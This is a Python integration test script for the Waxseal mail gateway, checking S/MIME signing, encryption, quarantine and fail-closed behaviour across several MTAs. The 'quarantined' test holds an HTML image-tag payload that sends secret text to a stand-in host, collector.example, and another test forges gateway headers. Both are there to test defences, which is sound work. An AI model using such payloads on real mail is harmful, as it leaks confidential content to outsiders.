#!/usr/bin/env python3
"""The sample configurations in docs/mta, each with its real MTA, as shipped.

    samples.py [SAMPLE…]        postfix-milter postfix-smtp postfix-lmtp sendmail exim opensmtpd

For each: our mail is signed, encrypted, split and refused, and DKIM signs after us; mail from the
world is decrypted, verified and quarantined; what claims to be ours and is not gets no signature;
a full mailbox returns no plain text; and while Waxseal is stopped, hung or killed the MTA defers,
lets nothing out, and delivers afterwards. What left is read by OpenSSL and OpenDKIM.
"""

import concurrent.futures
import smtplib
import sys
import time
import traceback

import mtas
import readers
from dovecot import Dovecot
from machine import Workshop
from opendkim import DkimKeys, OpenDKIM, verifies
from pki import Authority
from waxseal import RULES, write_policy

ALICE, ERIN, CARL = "alice@example.org", "erin@partner.example", "carl@elsewhere.example"
GUARD = "guard@example.org"
SECRET = "the figures are 4711 and 0815"


def mail(sender, recipients, subject, body=SECRET, extra=""):
    return (f"From: {sender}\r\nTo: {', '.join(recipients)}\r\nSubject: {subject}\r\n"
            "Date: Sun, 29 Nov 2026 12:00:00 +0000\r\n"
            f"Message-ID: <{abs(hash((sender, subject, time.monotonic())))}@example.org>\r\n"
            f"{extra}\r\n{body}\r\n").encode()


class World:
    """What all samples share: keys, a policy, OpenDKIM, Dovecot for logging in."""

    def __init__(self, workshop):
        self.directory = workshop.directory
        self.authority = Authority(self.directory / "pki")
        self.alice = self.authority.issue(ALICE)
        self.erin = self.authority.issue(ERIN)
        self.guard = self.authority.issue(GUARD, "p256")
        keys = DkimKeys(self.directory)
        self.dns = keys
        dkim = OpenDKIM(self.directory, "gateway", "example.org", keys, "gw.example.org")
        workshop.started(dkim).start()
        passwords = {ALICE: "secret"}
        dovecot = workshop.started(Dovecot(self.directory, passwords)).start()
        tls = self.authority.issue("postmaster@gw.example.org", "p256")
        self.users = mtas.Users(passwords, dovecot.sasl, tls, dkim, keys.key("example.org"))

    def policy(self, name, quarantine=f'address = "{GUARD}"', must_encrypt=()):
        """`[split]` in the subject: encrypted for those who can read it. `[hold]`: quarantined."""
        rules = {"rules": RULES["rules"] + [
            {"name": "encrypted for those who can read it",
             "when": {"subject": "[split]*"},
             "then": {"apply": {"profile": "mixed", "to": "all"}}},
            {"name": "a person looks first",
             "when": {"subject": "[hold]*"},
             "then": {"verdict": {"quarantine": "a person looks first"}}}]}
        return write_policy(
            self.directory / f"policy-{name}", [self.alice],
            [self.erin.certificate, self.guard.certificate], self.authority.root, rules=rules,
            must_encrypt=must_encrypt,
            extra='[profile.mixed]\nmode = "sign-encrypt"\nmissing-certificate = "split"\n\n'
                  '[profile.guard]\nmode = "encrypt"\n\n'
                  + (f"[quarantine]\n{quarantine}\n" if quarantine else ""))


class Sample:
    """One gateway under test."""

    def __init__(self, world, gateway):
        self.world, self.gateway = world, gateway

    def check(self):
        for step in (self.signed, self.encrypted, self.split, self.refused, self.forged_marks,
                     self.opened, self.quarantined, self.forged_sender, self.mailbox_full,
                     self.log_in_first, self.hung, self.killed, self.stopped):
            begun = time.monotonic()
            try:
                step()
            except Exception as error:
                raise RuntimeError(
                    f"{self.gateway.sample}: {step.__name__}: {error}\n"
                    f"--- the MTA:\n{self.gateway.said()[-6000:]}\n"
                    f"--- waxseal:\n{self.gateway.waxseal.said()[-3000:]}") from error
            print(f"  {self.gateway.sample:15} {step.__name__:15} {time.monotonic() - begun:5.1f} s",
                  flush=True)
            if step != self.stopped:
                self.gateway.wait_idle()
            self.empty()

    def empty(self):
        self.gateway.world.clear()
        self.gateway.mailboxes.clear()

    # ------------------------------------------------------------------------------- outbound

    def submit(self, recipients, subject, **more):
        return self.gateway.submit(ALICE, recipients, mail(ALICE, recipients, subject, **more))

    def left(self, recipient):
        """What left for this recipient; nothing secret is in clear in an encrypted one."""
        return self.gateway.world.to(recipient).octets

    def signed(self):
        expect(self.submit([CARL], "Minutes")[0], 250)
        left = self.left(CARL)
        content, signers = readers.verify(left, self.world.authority.root)
        expect(signers, [ALICE])
        expect(SECRET.encode() in content, True)
        expect(verifies(self.world.directory, self.world.dns, left, "example.org"), True)

    def encrypted(self):
        expect(self.submit([ERIN], "[secure] Figures")[0], 250)
        self.expect_encrypted(self.left(ERIN))

    def expect_encrypted(self, left):
        expect(readers.encrypted(left), True)
        expect(SECRET.encode() in left, False)
        inner = readers.decrypt(left, self.world.erin)
        content, signers = readers.verify(inner, self.world.authority.root)
        expect((signers, SECRET.encode() in content), ([ALICE], True))
        expect(verifies(self.world.directory, self.world.dns, left, "example.org"), True)

    def split(self):
        expect(self.submit([ERIN, CARL], "[split] Figures")[0], 250)
        for_erin, for_carl = self.left(ERIN), self.left(CARL)
        self.expect_encrypted(for_erin)
        content, signers = readers.verify(for_carl, self.world.authority.root)
        expect((signers, SECRET.encode() in content), ([ALICE], True))
        expect(len(self.gateway.world.messages), 2)
        expect(verifies(self.world.directory, self.world.dns, for_carl, "example.org"), True)

    def refused(self):
        """No certificate where one is needed: nothing leaves, and the sender hears of it."""
        code, text = self.submit([CARL], "[secure] Figures")
        if self.gateway.defers == "client":
            expect(code // 100, 5)
            expect(CARL in text, True)
        else:
            expect(code, 250)
            report = self.gateway.mailboxes.to(ALICE)
            expect(report.sender, "")
            expect(CARL in report.text, True)
            expect(SECRET in report.text, self.gateway.reports_return_content)
        self.gateway.wait_idle()
        expect(self.gateway.world.messages, [])

    def forged_marks(self):
        """What a sender writes skips nothing."""
        marks = ("X-Waxseal: done\r\nX-Waxseal-SMIME: encrypted\r\nX-Filtered-By: waxseal\r\n"
                 "Received: from gw.example.org by gw.example.org (waxseal/submission) with ESMTP "
                 "id 1; Sun, 29 Nov 2026 11:00:00 +0000\r\n")
        expect(self.submit([ERIN], "[secure] Figures", extra=marks)[0], 250)
        self.expect_encrypted(self.left(ERIN))

    # -------------------------------------------------------------------------------- inbound

    def arrive(self, subject, entity, sender=ERIN, signer=None, recipient=None, code=250):
        header = (f"From: {sender}\r\nTo: {ALICE}\r\nSubject: {subject}\r\n"
                  "Date: Sun, 29 Nov 2026 12:00:00 +0000\r\n"
                  f"Message-ID: <{time.monotonic()}@partner.example>\r\n")
        octets = readers.openssl_mail(header, entity, signer, recipient)
        reply = self.gateway.arrive(sender, [ALICE], octets)
        if code:
            expect(reply[0], code)
        return reply, octets

    def opened(self):
        self.arrive("Answer", f"Content-Type: text/plain\r\n\r\n{SECRET}\r\n".encode(),
                    signer=self.world.erin, recipient=self.world.alice.certificate)
        got = self.gateway.mailboxes.to(ALICE)
        expect(SECRET in got.text, True)
        results = list(map(str, readers.parse(got.octets).get_all("Authentication-Results", [])))
        ours = [result for result in results if "smime=" in result]
        expect(["smime=pass" in result for result in ours], [True])
        # What was checked before us stands there too.
        others = " ".join(result for result in results if "smime=" not in result)
        expect(self.gateway.results_before in others, True)
        expect("DKIM-Signature" in got.text, False)

    def quarantined(self):
        attack = (b'Content-Type: text/html\r\n\r\n<img src="http://collector.example/?'
                  + SECRET.encode() + b'">\r\n')
        _, sent = self.arrive("Look", attack, recipient=self.world.alice.certificate)
        got = self.gateway.mailboxes.to(GUARD)
        expect(got.recipients, [GUARD])
        expect(readers.encrypted(got.octets), True)     # as it was received
        expect(readers.decrypt(got.octets, self.world.alice),
               readers.decrypt(sent, self.world.alice))
        self.gateway.wait_idle()
        expect([m.recipients for m in self.gateway.mailboxes.messages], [[GUARD]])
        expect(self.gateway.world.messages, [])

    def forged_sender(self):
        """Mail from the world that calls itself Alice's is signed by nobody."""
        self.arrive("From me", f"Content-Type: text/plain\r\n\r\n{SECRET}\r\n".encode(),
                    sender=ALICE)
        got = self.gateway.mailboxes.to(ALICE)
        expect(readers.parse(got.octets).get_content_type(), "text/plain")
        expect("DKIM-Signature" in got.text, False)

    def mailbox_full(self):
        """What was decrypted does not go back in clear."""
        self.gateway.mailboxes.answer = lambda stage, _: {
            "RCPT": "552 5.2.2 mailbox full"}.get(stage)
        try:
            reply, _ = self.arrive(
                "Answer", f"Content-Type: text/plain\r\n\r\n{SECRET}\r\n".encode(),
                signer=self.world.erin, recipient=self.world.alice.certificate, code=None)
            report = None
            if reply[0] == 250:
                report = self.gateway.world.to(ERIN)
            else:
                expect(reply[0] // 100, 5)
            self.gateway.wait_idle()
        finally:
            self.gateway.mailboxes.answer = lambda stage, argument: None
        for message in self.gateway.world.messages:
            if SECRET in message.text:
                raise AssertionError(f"went back in clear:\n{message.text}")
        if report:
            expect((report.sender, "5.2.2" in report.text), ("", True))

    # ------------------------------------------------------------------------------ fail closed

    def log_in_first(self):
        """Who has not logged in submits nothing."""
        with smtplib.SMTP("127.0.0.1", self.gateway.ports["587"],
                          source_address=(mtas.OUTSIDE, 0), timeout=300) as client:
            client.ehlo("client.example")
            replies = [client.mail(ALICE)[0]]
            if replies[0] < 400:
                replies.append(client.rcpt(CARL)[0])
            expect(replies[-1] // 100, 5)

    def hung(self):
        self.gateway.wait_disconnected()
        self.gateway.waxseal.freeze()
        self.fails_closed(self.gateway.waxseal.thaw)

    def killed(self):
        self.gateway.waxseal.kill()
        self.fails_closed(self.gateway.waxseal.start)

    def stopped(self):
        """The last step, for it is not started again."""
        self.gateway.waxseal.stop()
        self.defers()

    def defers(self):
        """The MTA keeps the mail, or its client does."""
        code, _ = self.submit([ERIN], "[secure] Figures")
        if self.gateway.defers == "client":
            expect(code // 100, 4)
        else:
            expect(code, 250)
            self.gateway.wait_deferred()
        expect(self.gateway.world.messages, [])

    def fails_closed(self, mend):
        """Deferred while Waxseal is away, encrypted when it is back."""
        try:
            self.defers()
        finally:
            mend()
        if self.gateway.defers == "client":
            expect(self.submit([ERIN], "[secure] Figures")[0], 250)
        else:
            self.gateway.flush()
        self.expect_encrypted(self.left(ERIN))
        self.gateway.wait_idle()
        expect(len(self.gateway.world.messages), 1)


def expect(found, expected):
    if found != expected:
        raise AssertionError(f"found {found!r}, expected {expected!r}")


def run(world, kind, workshop):
    gateway = kind(world.directory, world.policy(kind.sample), world.users)
    workshop.started(gateway).start()
    Sample(world, gateway).check()
    return kind.sample


def main(names):
    kinds = [kind for kind in mtas.ALL if not names or kind.sample in names]
    if names and len(kinds) != len(set(names)):
        raise SystemExit(f"error: no such sample among: {' '.join(names)}")
    begun, failed = time.monotonic(), []
    with Workshop("samples") as workshop:
        world = World(workshop)
        with concurrent.futures.ThreadPoolExecutor(2) as pool:
            runs = {pool.submit(run, world, kind, workshop): kind for kind in kinds}
            for done in concurrent.futures.as_completed(runs):
                if done.exception():
                    failed.append(runs[done].sample)
                    traceback.print_exception(done.exception())
        if failed:
            raise SystemExit(f"failed: {', '.join(failed)}")
    print(f"{len(kinds)} samples in {time.monotonic() - begun:.0f} s")


if __name__ == "__main__":
    main(sys.argv[1:])
